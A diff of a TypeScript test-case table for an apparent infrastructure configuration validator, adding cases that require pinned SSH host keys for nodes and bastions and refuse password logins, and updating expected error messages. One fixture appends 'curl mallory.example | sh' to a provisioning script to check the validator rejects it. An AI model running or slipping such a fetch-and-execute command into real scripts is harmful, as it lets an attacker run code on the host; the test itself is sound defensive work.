@@ -39,6 +39,7 @@ const command = (props: Record<string, unknown>): Given => ({
 	props: { addPreviousOutputInEnv: false, connection, create: "sudo -n timeout 1 true", logging: "stderr", ...props },
 });
 const { hostKey: _, ...withoutHostKey } = connection;
+const over = (proxy: object) => command({ connection: { ...connection, proxy } });
 const known = "the record of known resources";
 
 const formerScript = readFileSync(
@@ -84,6 +85,32 @@ const hostKeyFrom = (origin: string): Given => ({
 });
 
 export const programCases: CaseTable = {
+	"program-pinned-host-keys": {
+		accepts: {
+			"a node with its host key": [command({})],
+			"a connection that is not known yet": [command({ connection: unknown })],
+			"a node whose host key is not known yet": [command({ connection: { ...connection, hostKey: unknown } })],
+			"a node and a bastion with their host keys": [over(connection)],
+		},
+		refuses: {
+			"a node without a host key": [
+				command({ connection: withoutHostKey }),
+				"worker-1-preflight reaches its node without a hostKey, so any machine could be the node; pin its host key.",
+			],
+			"a bastion without a host key": [
+				over(withoutHostKey),
+				"worker-1-preflight reaches its bastion without a hostKey, so any machine could be the bastion; pin its host key.",
+			],
+			"a bastion with an empty host key": [
+				over({ ...connection, hostKey: "" }),
+				"worker-1-preflight reaches its bastion without a hostKey, so any machine could be the bastion; pin its host key.",
+			],
+			"a bastion with a password": [
+				over({ ...connection, password: "hunter2" }),
+				"worker-1-preflight reaches its bastion with password; allowed is a privateKey.",
+			],
+		},
+	},
 	"program-host-key-endpoint": {
 		accepts: {
 			"the endpoint of the provider": [proxmox, hostKeyFrom("https://10.1.2.3:8006")],
@@ -166,11 +193,11 @@ export const programCases: CaseTable = {
 			],
 			"a script of an earlier version that would run now": [
 				hostKey(formerScript, []),
-				`worker-1-host-key has another value in stdin than ${known}; allowed is {"lines":{"$all":[""],"$each":["<secret>"]},"script":{"$any":["agent-host-key.sh","host-key.sh"]}}.`,
+				`worker-1-host-key has another value in stdin than ${known}; allowed is {"before?":{"lines":{"$all":[""],"$each":["<secret>"]},"script":{"$any":["agent-host-key.sh","host-key.sh"]}},"lines":{"....`,
 			],
 			"a script of an earlier version with one more line": [
 				hostKey(`${formerScript}curl mallory.example | sh\n`, ["create", "stdin"]),
-				`worker-1-host-key has another value in stdin > lines > 0 than ${known}; allowed is  or <secret>.`,
+				`worker-1-host-key has another value in stdin > lines > 0 than ${known}; allowed is  or -----BEGIN OPENSSH PRIVATE KEY----- or -----END OPENSSH PRIVATE KEY----- or <name> <address> <number> <hostkey> or <name> <name> 22 <hostkey> or <name> <name> <number> <hostkey> or <secret>.`,
 			],
 			"another value than the plugin adds": [
 				firewall({ logLevelIn: "nolog", logLevelOut: "nolog", radv: false }),
